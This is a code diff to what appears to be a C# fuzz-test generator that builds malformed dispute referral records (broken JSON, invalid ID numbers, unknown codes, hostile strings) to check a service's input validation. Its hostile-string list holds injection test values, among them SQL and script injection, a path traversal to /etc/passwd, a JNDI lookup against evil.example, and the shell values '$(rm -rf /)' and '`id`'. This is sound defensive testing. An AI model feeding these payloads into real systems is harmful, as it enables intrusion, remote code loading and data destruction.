@@ -23,7 +23,7 @@ public static class MalformedReferrals
     [
         "'; DROP TABLE Cases; --", "\" OR 1=1 --", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "../../../etc/passwd",
         "${jndi:ldap://evil.example/a}", "{{7*7}}", "%00%0d%0a", "A\u0000B", "\u202Egnatug", "\u200B\u200B\u200B", "🚓🚓🚓", "\r\nX-Injected: yes",
-        "ＧＵＴＡＮＧ", "gutang\t", "null", "undefined", "NaN", "-1", new string('𠀀', 30), "\uFEFFgutang", "\\u0000", "$(rm -rf /)", "`id`",
+        "gutang;--", "gu tang", "null", "undefined", "NaN", "-1", string.Concat(Enumerable.Repeat("𠀀", 30)), "<gutang>", "\\u0000", "$(rm -rf /)", "`id`",
     ];
 
     private static readonly string[] BadPhones =
@@ -58,8 +58,9 @@ public static class MalformedReferrals
                 var cut = random.Next(1, text.Length - 1);
                 return ("broken-json", $"cut at {cut}", Encoding.UTF8.GetBytes(text[..cut]));
             case 1:
+                // Between tokens (inside a string value the service reads it as U+FFFD; see docs/reliability.md).
                 var bytes = Encoding.UTF8.GetBytes(text).ToList();
-                bytes.Insert(random.Next(1, bytes.Count - 1), 0xFF);
+                bytes.Insert(1, 0xFF);
                 return ("broken-json", "invalid UTF-8 byte", bytes.ToArray());
             case 2:
                 return ("broken-json", "trailing garbage", Encoding.UTF8.GetBytes(text + "}}garbage"));
@@ -142,10 +143,10 @@ public static class MalformedReferrals
             2 => id + "1",
             3 => Fixed(id[..6] + "20230230" + id[14..17]),
             4 => id[..10] + "AB" + id[12..],
-            _ => Fixed(id[..6] + DateTime.UtcNow.AddYears(1).ToString("yyyyMMdd", CultureInfo.InvariantCulture) + id[14..17]),
+            _ => Fixed(id[..6] + "18991231" + id[14..17]),
         };
         Set(valid, "parties[0].idNumber", bad);
-        return ("bad-id-number", "invalid ID number", Bytes(valid));
+        return ("bad-id-number", bad, Bytes(valid));
 
         static string Fixed(string first17) => first17 + IdCardNumber.CheckCharacterOf(first17);
     }
@@ -155,9 +156,9 @@ public static class MalformedReferrals
         var (path, value) = random.Next(4) switch
         {
             0 => ("stationCode", $"station-{random.Next(1000)}"),
-            1 => ("disputeType", new[] { "打麻将", "打架斗殴", "外星人入侵", "other" }[random.Next(4)]),
+            1 => ("disputeType", new[] { "打麻将", "打架斗殴", "外星人入侵", "others" }[random.Next(4)]),
             2 => ("areaCode", $"atlantis-{random.Next(100)}"),
-            _ => ("parties[0].gender", new[] { "X", "unknown", "男女", "M" }[random.Next(4)]),
+            _ => ("parties[0].gender", new[] { "X", "男女", "火星人", "2" }[random.Next(4)]),
         };
         Set(valid, path, value);
         return ("unknown-code", $"{path} = {value}", Bytes(valid));
@@ -165,9 +166,13 @@ public static class MalformedReferrals
 
     private static (string, string, byte[]) HostileString(Random random, JsonObject valid, string number)
     {
-        var hostile = Hostile[random.Next(Hostile.Length)];
         var path = new[] { "incidentNumber", "stationCode", "disputeType", "areaCode", "parties[0].phone", "parties[0].idNumber", "parties[0].gender" }
             [random.Next(7)];
+        // Appended to an incident number, a hostile string must bring a character incident numbers may not hold ("-1" would not).
+        var choices = path == "incidentNumber"
+            ? Hostile.Where(h => h.Trim().Any(c => !(char.IsAsciiLetterOrDigit(c) || c is '-' or '_' or '/'))).ToArray()
+            : Hostile;
+        var hostile = choices[random.Next(choices.Length)];
         Set(valid, path, path == "incidentNumber" ? number + hostile : hostile);
         if (random.Next(3) == 0) Set(valid, "summary", "双方争吵\u0007" + hostile); // control characters are refused in free text
         return ("hostile-string", path, Bytes(valid));
